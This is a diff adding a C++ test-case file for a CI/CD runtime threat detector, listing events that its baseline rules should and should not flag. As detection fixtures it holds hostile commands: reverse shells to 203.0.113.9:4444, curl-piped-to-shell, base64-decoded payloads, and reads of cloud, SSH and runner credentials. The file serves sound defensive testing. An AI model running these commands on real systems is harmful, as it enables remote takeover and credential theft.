@@ -1,0 +1,177 @@
+// SPDX-License-Identifier: Apache-2.0
+// Cases of the baseline rules: package installs, credentials, execution, persistence.
+#include "rule/baseline_cases.h"
+
+namespace cicd::baseline {
+
+std::vector<Case> install_cases() {
+  const std::string home = "/home/runner";
+  return {
+      {"package_install_reads_cloud_credentials",
+       {open(home + "/.aws/credentials", below_pip(kCat)),
+        open("/root/.kube/config", below_npm({"/usr/bin/node", {"node", "setup.js"}})),
+        open("/root/.docker/config.json",
+             {kCat, {"/usr/bin/python3.11", {"python3", "setup.py", "install"}}, kBash})},
+       {open(home + "/.aws/credentials", in_step({"/usr/local/bin/aws", {"aws", "s3", "ls"}})),
+        open(home + "/.aws/credentials", below_npm_run(kCat)),
+        open(home + "/.aws/credentials", {kPip, kBash}),
+        open(home + "/.aws/credentials", below_pip(kCat), kWrite),
+        open(home + "/project/credentials", below_pip(kCat))}},
+      {"package_install_reads_registry_token",
+       {open(home + "/.npmrc", below_pip(kCat)), open(home + "/.pypirc", below_npm(kCat)),
+        open(home + "/.npmrc", below_npm({"/usr/bin/node", {"node", "bundle.js"}}))},
+       {open(home + "/.npmrc", {kNpm, kBash}),
+        open(home + "/.npmrc", below_npm({"/usr/bin/node", {"node", "/usr/bin/npm", "prefix"}})),
+        open(home + "/.npmrc", in_step(kCat))}},
+      {"package_install_reads_keys",
+       {open("/root/.ssh/id_ed25519", below_pip(kCat)),
+        open("/root/.git-credentials", below_npm(kCat)), open("/root/.netrc", below_pip(kCat))},
+       {open("/root/.ssh/id_ed25519", below_pip({"/usr/bin/ssh", {"ssh", "git@example.test"}})),
+        open("/root/.netrc",
+             below_pip({"/usr/bin/python3.11", {"python3", "-m", "pip", "install"}})),
+        open("/root/.ssh/id_ed25519.pub", below_pip(kCat))}},
+      {"package_install_runs_network_tool",
+       {exec(below_pip(kCurl)), exec(below_npm({"/usr/bin/wget", {"wget", "http://x.test/a"}})),
+        exec({kCurl,
+              shell("curl x"),
+              {"/usr/bin/node", {"node", "/opt/lib/npm-cli.js", "i", "x"}}})},
+       {exec(in_step(kCurl)), exec(below_npm_run(kCurl)), exec(below_pip(kCat))}},
+      {"package_install_tool_connects",
+       {connect("127.0.0.1", 8080, below_pip(kCurl)),
+        connect("203.0.113.9", 443, below_npm(kCurl))},
+       {connect("127.0.0.1", 8080, in_step(kCurl)), connect("127.0.0.53", 53, below_pip(kCurl)),
+        connect("203.0.113.9", 443, {kPip, kBash})}},
+      {"package_install_publishes",
+       {exec(below_npm({"/usr/bin/node", {"node", "/usr/bin/npm", "publish"}})),
+        exec(
+            below_pip({"/usr/bin/python3.11", {"python3", "/usr/bin/twine", "upload", "dist/x"}}))},
+       {exec(in_step({"/usr/bin/node", {"node", "/usr/bin/npm", "publish"}})),
+        exec(below_npm({"/usr/bin/node", {"node", "/usr/bin/npm", "rebuild"}}))}},
+      {"package_install_runs_secret_scanner",
+       {exec(below_npm({"/tmp/.x/trufflehog", {"trufflehog", "filesystem", "/"}}))},
+       {exec(in_step({"/usr/bin/trufflehog", {"trufflehog", "git", "."}}))}},
+  };
+}
+
+std::vector<Case> credential_cases() {
+  return {
+      {"cloud_metadata_access",
+       {connect("169.254.169.254", 80, in_step(kCurl)),
+        connect("fd00:ec2::254", 80, in_step(kCurl)),
+        connect("::ffff:169.254.169.254", 80, in_step(kCurl)),
+        connect("169.254.170.2", 80, below_npm(kCurl))},
+       {connect("169.254.169.253", 53, in_step(kCurl)),
+        connect("169.254.169.254", 80, in_step({"/usr/local/bin/aws", {"aws", "sts"}}))}},
+      {"process_memory_opened",
+       {memory("proc_mem", "/usr/bin/vault", in_step(python("dump"))),
+        memory("proc_mem", "", below_npm(kCat))},
+       {memory("proc_maps", "/usr/bin/vault", in_step(kCat)),
+        memory("proc_mem", "/usr/bin/vault", in_step(kGdb)),
+        memory("proc_mem", kWorker, in_step(kCat)), open("/proc/4711/mem", in_step(kCat))}},
+      {"process_environment_read",
+       {memory("proc_environ", "/usr/bin/bash", in_step(kCat)),
+        memory("proc_environ", "", below_npm(kCat))},
+       {memory("proc_environ", "/usr/bin/bash", in_step({"/usr/bin/ps", {"ps", "auxe"}})),
+        memory("proc_environ", kWorker, in_step(kCat)), open("/proc/4711/environ", in_step(kCat))}},
+      {"runner_credentials_read",
+       {open("/home/runner/actions-runner/.credentials", in_step(kCat)),
+        open("/opt/runner/.credentials_rsaparams", in_step(kCat)),
+        open("/etc/gitlab-runner/config.toml", in_step(kCat))},
+       {open("/home/runner/actions-runner/.credentials",
+             in_step({"/home/runner/actions-runner/bin/Runner.Listener", {"Runner.Listener"}})),
+        open("/home/me/.credentials", in_step(kCat))}},
+      {"shadow_file_opened",
+       {open("/etc/shadow", in_step(kCat)), open("/etc/shadow", in_step(kCat), kWrite)},
+       {open("/etc/shadow", in_step({"/usr/bin/sudo", {"sudo", "ls"}})),
+        open("/etc/passwd", in_step(kCat))}},
+  };
+}
+
+std::vector<Case> execution_cases() {
+  return {
+      {"download_piped_to_shell",
+       {exec(in_step(shell("curl -fsSL https://x.test/i.sh | sh"))),
+        exec(in_step(shell("wget -qO- https://x.test/i.sh |bash -s -- -y"))),
+        exec(in_step({"/usr/bin/bash", {"bash", "-c", "bash <(curl -s https://x.test/u)"}}))},
+       {exec(in_step(shell("curl -o a.tar.gz https://x.test/a.tar.gz"))), exec(in_step(kCurl)),
+        exec(in_step(shell("v=$(curl -s https://x.test/version); echo $v"))),
+        exec(in_step(shell("curl https://x.test/a.tgz | tar xz")))}},
+      {"decoded_payload_run",
+       {exec(in_step(shell("echo ZWNobyBoaQ== | base64 -d | bash"))),
+        exec(in_step(shell("eval \"$(echo aGk= | base64 --decode)\""))),
+        exec(in_step(python("exec(__import__('base64').b64decode('aGk='))"))),
+        exec(in_step({"/usr/bin/node", {"node", "-e", "eval(atob('MQ=='))"}}))},
+       {exec(in_step(shell("echo $KEY | base64 -d > key.json"))),
+        exec(in_step(python("import base64; print(base64.b64decode('aGk='))")))}},
+      {"program_run_from_memory",
+       {exec(in_step({"/memfd:x (deleted)", {"kworker"}}), true),
+        exec(in_step({"/memfd:runc_cloned:/proc/self/exe", {"x"}}), true)},
+       {exec(in_step(kCat)), exec({{"/memfd:runc_cloned:/proc/self/exe", {"runc", "init"}},
+                                   {"/usr/bin/containerd-shim-runc-v2", {"shim"}}},
+                                  true)}},
+      {"reverse_shell",
+       {exec(in_step(
+            {"/usr/bin/bash", {"bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}})),
+        exec(in_step({"/usr/bin/nc.traditional", {"nc", "-e", "/bin/sh", "203.0.113.9", "4444"}})),
+        exec(in_step({"/usr/bin/socat", {"socat", "TCP:203.0.113.9:4444", "EXEC:/bin/bash"}})),
+        exec(in_step(python("import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0)")))},
+       {exec(in_step(shell("until (: < /dev/tcp/localhost/5432) 2>/dev/null; do sleep 1; done"))),
+        exec(in_step({"/usr/bin/nc.openbsd", {"nc", "-z", "localhost", "5432"}})),
+        exec(in_step(python("import socket; print(socket.gethostname())")))}},
+      {"crypto_miner",
+       {exec(in_step({"/tmp/xmrig", {"xmrig"}})),
+        exec(in_step({"/tmp/a", {"a", "-o", "stratum+tcp://pool.test:3333"}}))},
+       {exec(in_step({"/usr/bin/gcc", {"gcc", "xmrig.c"}}))}},
+      {"tunnel_started",
+       {exec(in_step({"/usr/local/bin/ngrok", {"ngrok", "http", "80"}}))},
+       {exec(in_step({"/usr/bin/ssh", {"ssh", "x.test"}}))}},
+      {"left_the_job_cgroup",
+       {escape("/ci/job-1", "/user.slice")},
+       {escape("/ci/job-1", "/ci/job-1")}},
+  };
+}
+
+std::vector<Case> persistence_cases() {
+  const auto write = [](const std::string& path, const Chain& chain) {
+    return open(path, chain, kWrite);
+  };
+  const Chain tee = in_step({"/usr/bin/tee", {"tee", "-a"}});
+  return {
+      {"authorized_keys_written",
+       {write("/root/.ssh/authorized_keys", tee)},
+       {open("/root/.ssh/authorized_keys", tee), write("/root/.ssh/known_hosts", tee)}},
+      {"shell_profile_written",
+       {write("/root/.bashrc", tee), write("/etc/profile.d/x.sh", tee)},
+       {open("/root/.bashrc", tee), write("/etc/profile.d/x.sh", in_step(kDpkg)),
+        write("/root/.profile", in_step({"/tmp/rustup-init", {"rustup-init", "-y"}}))}},
+      {"cron_job_written",
+       {write("/etc/cron.d/x", tee), write("/var/spool/cron/crontabs/root", tee)},
+       {open("/etc/crontab", tee), write("/etc/cron.d/x", in_step(kDpkg))}},
+      {"systemd_unit_written",
+       {write("/etc/systemd/system/x.service", tee),
+        write("/root/.config/systemd/user/x.service", tee)},
+       {write("/lib/systemd/system/x.service", in_step(kDpkg)),
+        open("/etc/systemd/system/x", tee)}},
+      {"git_hook_written",
+       {write("/work/x/.git/hooks/post-checkout", tee)},
+       {write("/work/x/.git/hooks/post-checkout.sample", tee),
+        write("/work/x/.git/hooks/pre-push", in_step(kGit))}},
+      {"workflow_file_written",
+       {write("/work/x/.github/workflows/ci.yml", tee), write("/work/x/.gitlab-ci.yml", tee)},
+       {write("/work/x/.github/workflows/ci.yml", in_step(kGit)),
+        open("/work/x/.github/workflows/ci.yml", tee)}},
+      {"sudoers_written",
+       {write("/etc/sudoers", tee), write("/etc/sudoers.d/x", tee)},
+       {open("/etc/sudoers", in_step({"/usr/bin/sudo", {"sudo"}})),
+        write("/etc/sudoers.d/x", in_step(kDpkg))}},
+      {"preload_library_configured",
+       {write("/etc/ld.so.preload", tee)},
+       {open("/etc/ld.so.preload", tee)}},
+      {"name_resolution_changed",
+       {write("/etc/hosts", tee), write("/etc/resolv.conf", tee)},
+       {open("/etc/hosts", in_step(kCurl)),
+        write("/etc/resolv.conf", in_step({"/usr/lib/systemd/systemd-resolved", {"resolved"}}))}},
+  };
+}
+
+}  // namespace cicd::baseline
